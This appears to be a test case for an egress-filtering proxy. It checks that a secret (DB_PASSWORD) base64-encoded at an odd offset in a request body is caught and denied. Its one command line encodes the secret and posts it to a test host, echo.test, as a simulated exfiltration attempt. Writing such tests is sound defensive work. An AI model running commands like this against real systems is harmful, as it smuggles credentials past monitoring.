# S4: held secret base64-encoded in a body, at an odd offset (HTTPS, h1 and h2)
# expect: fail
# audit: sidecar=egress decision=deny host=echo.test
# audit-min: 2
# upstream-must-not-see: DB_PASSWORD
# host-check: echo-untouched
h1h2 -d "data=$(printf 'xy%s' "$DB_PASSWORD" | base64 -w0)" https://echo.test/allowed/b
